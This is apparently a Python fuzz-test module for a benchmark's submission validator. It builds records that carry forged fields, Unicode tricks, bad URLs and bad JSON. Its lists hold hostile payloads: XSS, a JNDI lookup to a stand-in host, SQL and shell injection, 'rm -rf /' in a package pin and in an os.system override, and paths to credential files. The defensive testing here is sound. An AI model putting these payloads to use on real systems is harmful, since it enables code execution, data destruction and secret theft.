"""Records that no author's tool writes: forged fields, tricks of Unicode, addresses, versions, JSON."""

from __future__ import annotations

import json
from typing import Any

from hostile_case import Case, kind

TEXTS = ("title", "summary", "hardware")


def _put_text(case: Case, text: str) -> None:
    """Put a text in the next of the fields that hold text."""
    where = case.number % 5
    if where < 3:
        case.record[TEXTS[where]] = text
    else:
        case.record["authors"][0]["name" if where == 3 else "affiliation"] = text
    case.write_record()


@kind("refused", 60)
def unseen_characters(case: Case) -> None:
    sign = case.one_of(
        ["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u2028", "\u2029", "\x00", "\x1b[31m", "\n", "\r",
         "\t", "\x7f", "\x85", "\ue000", "\ud800", "\udfff", "\U000e0041", "\uffff", "\u0378", "\ufe0f", "\u3164",
         "\u115f", "\u2800", "\U000e0101", "\u034f", "\u180e", "\u061c", "\U0010ffff", "\x9b"]
    )  # fmt: skip
    _put_text(case, f"A method{sign}of ours")


@kind("refused", 15)
def text_that_is_not_normalised(case: Case) -> None:
    text = case.one_of(
        ["e\u0301tude", "A\u030angstrom", "\u212bngstrom", " leading", "trailing ", "", "   ", "\u00a0",
         "a" + "\u0301" * 40,
         "x" + "\u0336" * 5, "\u1100\u1161", "\u2126", "z" * 501, "\u3000x", "e\u0323\u0307"]
    )  # fmt: skip
    _put_text(case, text)


@kind("inert", 60)
def markup_in_text(case: Case) -> None:
    text = case.one_of(
        ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>", "&lt;b&gt;",
         "\"><iframe src=//x.example>", "{{7*7}}", "${jndi:ldap://x.example/a}", "[a](javascript:alert(1))",
         "![x](https://x.example/p.png)", "| a | b |", "# Heading", "```sh", "\\input{/etc/passwd}",
         "\\write18{id}", "$\\def\\x{\\x\\x}\\x$", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "-2+3", "%00",
         "'; DROP TABLE results;--", "$(id)", "`id`", "; id", "../../etc/passwd", "[red]x[/red]",
         "::set-output name=a::b",
         "::error file=x::y", "<!--", "-->", "]]>", "<?php echo 1 ?>", "javascript:alert(1)", "{% include 'x' %}",
         "%n%n%s%s", "\\u202e", "&#x202e;", "<a href=\"javascript:x\">y</a>", "<style>*{display:none}</style>"]
    )  # fmt: skip
    _put_text(case, text)


@kind("inert", 15)
def text_of_the_world(case: Case) -> None:
    text = case.one_of(
        ["طريقة جديدة", "новый метод", "一种新方法", "नई विधि", "phương pháp", "μέθοδος", "שיטה", "방법", "방법 ok",
         "🙂 method",
         "straße", "İstanbul", "ﷺ", "𝔘nicode", "Аcme (homoglyph)"]
    )  # fmt: skip
    _put_text(case, text)


@kind("refused", 40)
def address_that_is_not_https(case: Case) -> None:
    case.record[case.one_of(["paper", "code"])] = case.one_of(
        ["javascript:alert(1)", "data:text/html,x", "http://x.example", "ftp://x.example/a", "file:///etc/passwd",
         "https://u:p@x.example", "https://x.example\\@y.example", "https://x.example/\n", "https://x.example/ a",
         "https://exаmple.example", "https://x", "https://", "//x.example", "https:/x.example", "https://x.example/<b>",
         "https://x.example/\"onclick=x", "https://[::1]/", "https://x..example", "https://-x.example", "",
         "https://x.example:999999/", "HTTPS://x.example", "https://x.example/\u202e", "https://x.example/" + "a" * 300,
         "https://x.example`id`", "https://x.example/{}", "https://x.example|y", " https://x.example",
         "vbscript:x", "https://x.example@y.example/", "https://x.example/\x00", "mailto:a@x.example",
         "blob:https://x.example", "https://x_y.example", "https://xn--.example.", "https://.example",
         "https://x.example^", "view-source:https://x.example", "https:\\\\x.example", "https://user@x.example"]
    )  # fmt: skip
    case.write_record()


@kind("refused", 30)
def name_that_is_no_slug(case: Case) -> None:
    case.record[case.one_of(["team", "method"])] = case.one_of(
        ["Acme", "асme", "a--b", "-a", "a-", "", "a" * 41, "a/b", "..", ".", "a b", "a\n", "a\u0301", "ａcme", "a.b",
         "<b>", "tipbench--x", "_a--", "con ", "a\u200b", "ſ", "é", "a%2fb", "a\\b", "null\x00", "😀", "a;b",
         "a|b", "--", "a$b"]
    )  # fmt: skip
    case.write_record()


@kind("refused", 2)
def reserved_team(case: Case) -> None:
    case.record["team"] = "tipbench"
    case.record["method"] = f"mine{case.number}"
    case.write_record()


@kind("refused", 40)
def place_of_a_file_that_leads_elsewhere(case: Case) -> None:
    entry = case.entry()
    entry["file"] = case.one_of(
        ["../outside/kept.txt", "/etc/passwd", "prevalence/../prevalence/all/s0.parquet", "./prevalence/all/s0.parquet",
         "prevalence//all/s0.parquet", "prevalence\\all\\s0.parquet", "prevalence/all/s0.parquet\x00",
         "submission.json",
         "prevalence/all/s0.parquet/", "file:///etc/passwd", "https://x.example/s0.parquet", "~/s0.parquet", "",
         "flag_aggregation/forward/s0.parquet", "prevalence/all/s00.parquet", "prevalence/all/S0.parquet",
         "prevalence/all/s0.parquet\n", "$HOME", "-", "*", "prevalence/all/*", "/dev/stdin", "/proc/self/environ",
         "s3://x/y", "hf://x", "NUL", "prevalence/all/s0.parquet?x", "ｐrevalence/all/s0.parquet"]
    )  # fmt: skip
    if case.number >= 28:
        entry["task"] = case.one_of(["..", ".", "/", "a/b", "Prevalence", "prevalence\n", "", "__init__"])
    case.write_record()


@kind("refused", 30)
def what_there_is_not(case: Case) -> None:
    key, value = case.one_of(
        [("task", "advert_risks"), ("task", "os"), ("split", "forward"), ("split", "auto"), ("labels", "oracle"),
         ("labels", "given"), ("access", "truth"), ("access", "auto"), ("access", "label"), ("seed", -1),
         ("seed", 2**31),
         ("seed", 0.0), ("seed", True), ("seed", "0"), ("rows", 0), ("rows", -1), ("rows", 2**63), ("rows", "8"),
         ("rows", 7), ("rows", 9), ("digest", "sha256:" + "0" * 64), ("digest", "md5:0"), ("digest", ""),
         ("digest", "sha256:" + "A" * 64), ("cost", {}), ("cost", "1"), ("file", None), ("labels", "__class__"),
         ("split", "../all"), ("seed", 1e3)]
    )  # fmt: skip
    entry = case.entry()
    entry[key] = value
    if case.number % 2 and key in ("task", "split", "seed"):
        entry["file"] = f"{entry['task']}/{entry['split']}/s{entry['seed']}.parquet"
    case.write_record()


@kind("refused", 12)
def cost_that_is_no_number(case: Case) -> None:
    key = case.one_of(["fit_s", "predict_s", "cpu_s", "peak_mib"])
    case.entry()["cost"][key] = case.one_of([-1, "1", True, [], 1e999, -0.001, float("nan")])
    case.write_record()


@kind("refused", 10)
def entry_that_is_listed_twice(case: Case) -> None:
    again = dict(case.entry())
    if case.number % 2:
        again["access"] = "legal"
    case.record["predictions"] += [again] * (case.number + 1)
    case.write_record()


@kind("refused", 30)
def versions_and_data_that_there_are_not(case: Case) -> None:
    where, value = case.one_of(
        [("data", "0.2.0/tiny"), ("data", "0.4.0/xl"), ("data", "0.4.0/full"), ("data", "9.9.9/tiny"),
         ("data", "round/secret"), ("data", "tiny"), ("data", "../tiny"), ("data", "0.4.0/../../x"), ("data", "/etc"),
         ("data", "round/../x"), ("data", "0.4.0/tiny\n"), ("data", ""), ("tasks", None), ("tasks", {}), ("tasks", "1"),
         ("tasks", {"nowhere": "1"}), ("version", "0.2.0"), ("version", "9.9.9"),
         ("version", "../../x"), ("version", "\x1b[2J"), ("format", 2), ("format", "1"), ("format", None),
         ("format", 1.5), ("data", "٠.٤.٠/tiny"), ("data", "0.4.0/TINY"), ("version", None),
         ("data", ["0.4.0/tiny"])]
    )  # fmt: skip
    if where in ("data", "format"):
        case.record[where] = value
    else:
        case.record["versions"]["data" if where == "version" else where] = value
    case.write_record()


@kind("refused", 24)
def fields_that_no_record_has(case: Case) -> None:
    name = case.one_of(
        ["score", "scores", "__proto__", "verified", "\x1b[2J", "a" * 5_000, "average_precision", "\u202ex"]
    )
    at: Any = case.one_of([case.record, case.entry(), case.record["versions"]])
    at[name] = case.one_of([0.99, {"value": 1.0}, None])
    case.write_record()


@kind("refused", 26)
def fields_that_are_missing(case: Case) -> None:
    names = list(case.record) + [f"predictions.{name}" for name in case.entry()]
    name = names[case.number % len(names)]
    at = case.entry() if name.startswith("predictions.") else case.record
    del at[name.removeprefix("predictions.")]
    case.write_record()


@kind("refused", 16)
def values_of_another_type(case: Case) -> None:
    name = case.one_of(list(case.record))
    case.record[name] = case.one_of([[[]], {"a": {}}, 0, 1e999, True])
    if name == "format":
        case.record[name] = True
    case.write_record()


@kind("refused", 30)
def json_that_is_none(case: Case) -> None:
    text = json.dumps(case.record)
    path = case.path("submission.json")
    tricks: list[bytes] = [
        b"", b"{}", b"[]", b"null", b"\xff\xfe{\x00}\x00", b"\xef\xbb\xbf" + text.encode(), text[:-1].encode(),
        (text + "x").encode(), text.encode("utf-16"), b"\x80\4}.", b"<xml/>", (text[:-1] + ', "format": 1}').encode(),
        text.replace('"seed": 0', '"seed": 0, "seed": 1', 1).encode(), b"[" * 100_000, b'{"a":' * 50_000,
        (text[:-1] + ', "x": ' + "[" * 5_000 + "]" * 5_000 + "}").encode(), text.replace("1.5", "NaN").encode(),
        text.replace("1.5", "Infinity").encode(), text.replace("1.5", "-Infinity").encode(),
        text.replace("1.5", "1e999").encode(), text.replace('"seed": 0', '"seed": ' + "9" * 5_000, 1).encode(),
        (text + " " * 300_000).encode(), json.dumps({**case.record, "title": "x" * 300_000}).encode(),
        text.encode().replace(b"Mine", b"M\xffne"), text.replace("'", '"').encode() + b"\x00",
        text.replace("1.5", "1" * 400).encode(), b"0" * 200_000, b'"' + b"\\" * 100_000, text.replace("{",
        "/*x*/{", 1).encode(),
        (text[:-1] + ", }").encode(),
    ]  # fmt: skip
    path.write_bytes(case.one_of(tricks))


@kind("refused", 6)
def too_many_entries(case: Case) -> None:
    one = case.entry()
    seeds = case.one_of([201, 400, 700])
    case.record["predictions"] = [
        {**one, "seed": seed, "file": f"prevalence/all/s{seed}.parquet"} for seed in range(seeds)
    ]
    case.write_record()


@kind("refused", 40)
def pinned_that_would_do_harm(case: Case) -> None:
    package, overrides = case.one_of(
        [("x", []), ("x>=1", []), ("x==1; rm -rf /", []), ("-r file", []), ("--index-url https://x.example x==1", []),
         ("x @ https://x.example/x.whl", []), ("x @ http://x.example/x.whl#sha256=" + "0" * 64, []),
         ("x @ git+https://x.example/x@main", []), ("x @ git+ssh://x.example/x@" + "0" * 40, []),
         ("x @ file:///tmp/x.whl#sha256=" + "0" * 64, []), ("x==1\n", []), ("x==1 y==2", []), ("", []),
         ("x @ https://u:p@x.example/x.whl#sha256=" + "0" * 64, []), ("x==$(id)", []), ("x==1", ["runs.path=/etc"]),
         ("x==1", ["figure.path=/etc/x.png"]), ("x==1", ["engine=loky"]), ("x==1", ["--config-dir"]), ("x==1", ["-m"]),
         ("x==1", ["overwrite=always"]), ("x==1", ["baseline.x=${oc.env:HOME}"]), ("x==1", ["hydra.run.dir=/"]),
         ("x==1", ["a=\n"]), ("x==1", ["a=\u202e"]), ("x==1", ["a"]), ("x==1", ["=a"]), ("x==1", ["~a=1"]),
         ("x==1", ["++runs.path=/etc"]), ("x==1", ["a=" + "b" * 200]), ("x==1", [" a=1"]), ("x==1", ["a b=1"]),
         ("x==1", ["a=1"] * 51), ("x==1", "a=1"), ("x==1", [1]), ("x==1", [None]), ("x==1", ["$(id)=1"]),
         ("x==1", ["+engine=x"]), ("x==1", ["experiment=board"]), ("x==1", ["grid.baselines=all"])]
    )  # fmt: skip
    case.record["pinned"] = {"package": package, "overrides": {"prevalence": overrides}}
    case.write_record()


@kind("refused", 4)
def pinned_for_another_task(case: Case) -> None:
    name = case.one_of(["advert_risk", "nothing", "__init__", "../x"])
    case.record["pinned"] = {"package": "x==1", "overrides": {name: ["a=1"]}}
    case.write_record()


@kind("inert", 8)
def pinned_that_is_well_formed(case: Case) -> None:
    package = case.one_of(
        ["x==1.0", "x_y.z==2!1.0+local", "x @ https://x.example/x-1.whl#sha256=" + "0" * 64,
         "x @ git+https://x.example/x.git@" + "a" * 40]
    )  # fmt: skip
    overrides = case.one_of(
        [[], ["baseline.method._target_=os.system", "+baseline.method.command='rm -rf /'"]]
    )
    case.record["pinned"] = {"package": package, "overrides": {"prevalence": overrides}}
    case.record["summary"] = f"Case {case.number}."
    case.write_record()
